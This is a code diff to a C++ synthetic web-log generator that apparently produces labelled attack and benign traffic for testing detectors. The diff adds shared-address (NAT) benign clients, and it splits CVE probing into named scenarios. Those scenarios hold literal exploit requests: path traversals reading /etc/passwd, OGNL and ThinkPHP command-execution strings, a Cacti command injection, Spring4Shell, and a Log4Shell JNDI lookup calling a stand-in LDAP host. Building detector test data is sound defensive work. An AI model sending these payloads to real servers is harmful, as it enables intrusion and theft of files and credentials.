@@ -4,8 +4,9 @@
 // Benign traffic: many IPv4 and IPv6 clients with Zipf-like popularity,
 // browsing pages and a single-page app's API, static assets, 304s,
 // favicon/robots 404s, searches with quotes and SQL-ish words, logins with
-// the odd mistyped password, well-behaved crawlers and a server-error
-// incident. Attack traffic (unless --benign-only): every kind the detectors
+// the odd mistyped password, well-behaved crawlers, a server-error incident,
+// and shared addresses (carrier-grade and corporate NAT, one IPv6 /64) that
+// carry hundreds of users with their own browsers at once. Attack traffic (unless --benign-only): every kind the detectors
 // know, each from its own clients, with the ground truth written to --truth
 // as TSV: client (or IPv6 /64) <TAB> expected scenario <TAB> first line time.
 //
@@ -268,19 +269,39 @@ const std::vector<Attack>& Attacks() {
       {"http-open-proxy", 2, 4, 1.0, false,
        {"CONNECT www.google.com:443 HTTP/1.1|400", "GET http://www.example.org/ HTTP/1.1|400",
         "CONNECT 203.0.113.5:25 HTTP/1.1|405"}},
-      {"http-cve-probing", 10, 1, 1.0, false,
-       {"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1|400",
-        "GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd HTTP/1.1|404",
-        "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1|404",
-        "GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/ HTTP/1.1|404",
-        "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1|404",
-        "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP HTTP/1.1|404",
-        "GET /remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=1%3Bid HTTP/1.1|404",
-        "POST /ui/vropspluginui/rest/services/uploadova HTTP/1.1|404",
-        "GET /public/plugins/alertlist/../../../../../../../../etc/passwd HTTP/1.1|400",
-        "GET /secure/ContactAdministrators!default.jspa HTTP/1.1|404",
-        "POST /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/ HTTP/1.1|404",
-        "GET /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1|200"}},
+      {"http-cve-probing", 3, 1, 1.0, false,
+       {"POST /ui/vropspluginui/rest/services/uploadova HTTP/1.1|404",
+        "GET /secure/ContactAdministrators!default.jspa HTTP/1.1|404", "POST /_ignition/execute-solution HTTP/1.1|405"}},
+      {"http-cve-2021-41773", 1, 1, 1.0, false, {"GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1|400"}},
+      {"http-cve-2021-42013", 1, 1, 1.0, false, {"GET /icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd HTTP/1.1|400"}},
+      {"f5-big-ip-cve-2020-5902", 1, 1, 1.0, false,
+       {"GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd HTTP/1.1|404"}},
+      {"fortinet-cve-2018-13379", 1, 1, 1.0, false,
+       {"GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1|404"}},
+      {"pulse-secure-sslvpn-cve-2019-11510", 1, 1, 1.0, false,
+       {"GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/ HTTP/1.1|404"}},
+      {"CVE-2017-9841", 1, 1, 1.0, false, {"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1|404"}},
+      {"thinkphp-cve-2018-20062", 1, 1, 1.0, false,
+       {"GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP HTTP/1.1|404"}},
+      {"CVE-2022-46169", 1, 1, 1.0, false,
+       {"GET /remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=1%3Bid HTTP/1.1|404"}},
+      {"grafana-cve-2021-43798", 1, 1, 1.0, false,
+       {"GET /public/plugins/alertlist/../../../../../../../../etc/passwd HTTP/1.1|400"}},
+      {"CVE-2022-26134", 1, 1, 1.0, false,
+       {"POST /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/ HTTP/1.1|404"}},
+      {"spring4shell_cve-2022-22965", 1, 1, 1.0, false,
+       {"GET /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1|200"}},
+      {"apache_log4j2_cve-2021-44228", 2, 1, 1.0, false,
+       {"GET / HTTP/1.1|200|${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/d2dldA==}"}},
+      {"CVE-2024-0012", 1, 1, 1.0, false, {"GET /php/ztp_gate.php/.js.map HTTP/1.1|404"}},
+      {"CVE-2023-22515", 1, 1, 1.0, false,
+       {"GET /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false HTTP/1.1|404"}},
+      {"CVE-2022-41697", 1, 8, 0.5, false, {"POST /ghost/api/admin/session HTTP/1.1|404"}},
+      {"http-technology-probing", 2, 1, 1.0, false,
+       {"GET /+CSCOE+/logon.html HTTP/1.1|404", "GET /global-protect/login.esp HTTP/1.1|404",
+        "GET /owa/auth/logon.aspx HTTP/1.1|404"}},
+      {"http-dos-random-uri", 2, 200, 0.02, false, {"GET /{n}{w} HTTP/1.1|200"}},
+      {"http-dos-bypass-cache", 2, 200, 0.02, false, {"GET /products?{n}={w} HTTP/1.1|200"}},
       {"http-flood", 2, 400, 0.02, false, {"GET / HTTP/1.1|200", "GET /products/{n} HTTP/1.1|200"}},
       {"http-dos-switching-ua", 2, 25, 0.3, false, {"GET /products/{n} HTTP/1.1|200|{ua}"}},
       {"http-bad-request", 3, 8, 2.0, false,
@@ -363,6 +384,21 @@ int main(int argc, char** argv) {
   }
   std::vector<Client> crawlers;
   for (int i = 0; i < 12; ++i) crawlers.push_back({RandomV4(rng), kCrawlers[i % kCrawlers.size()]});
+  // Shared addresses: 6 % of the benign lines from 4 addresses (3 % from
+  // the busiest, about 2 requests/s at the default rate), from 400 users
+  // each with their own browser version, a few requests (a page view) at a
+  // time.
+  struct Nat {
+    std::string ip;
+    double share;
+    uint64_t user = 0;
+  };
+  Nat nats[] = {{RandomV4(rng), 0.03}, {RandomV4(rng), 0.015}, {RandomV4(rng), 0.01},
+                {V6InPrefix(RandomV6Prefix(rng), rng), 0.005}};
+  auto nat_user_agent = [](uint64_t user) {
+    return fmt::format("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+                       "Chrome/{}.0.{}.{} Safari/537.36", 118 + user % 8, 6000 + user % 37, user % 211);
+  };
 
   const double duration = double(lines) / rate;
   std::vector<Line> attack_lines;
@@ -404,9 +440,22 @@ int main(int argc, char** argv) {
       ++written;
     }
     if (written >= lines) break;
-    const Client& c = rng.Chance(0.03) ? crawlers[rng.Below(crawlers.size())]
-                                       : clients[size_t(std::pow(rng.Unit(), 2.0) * double(clients.size()))];
-    Write(out, Benign(rng, c, t, t >= incident_from && t < incident_to), rng);
+    Client nat_user;
+    const Client* c = nullptr;
+    double u = rng.Unit();
+    for (Nat& n : nats) {
+      if (c == nullptr && u < n.share) {
+        if (rng.Chance(0.15)) n.user = rng.Below(400);
+        nat_user = {n.ip, nat_user_agent(n.user)};
+        c = &nat_user;
+      }
+      u -= n.share;
+    }
+    if (c == nullptr) {
+      c = rng.Chance(0.03) ? &crawlers[rng.Below(crawlers.size())]
+                           : &clients[size_t(std::pow(rng.Unit(), 2.0) * double(clients.size()))];
+    }
+    Write(out, Benign(rng, *c, t, t >= incident_from && t < incident_to), rng);
     ++written;
     flush(false);
   }
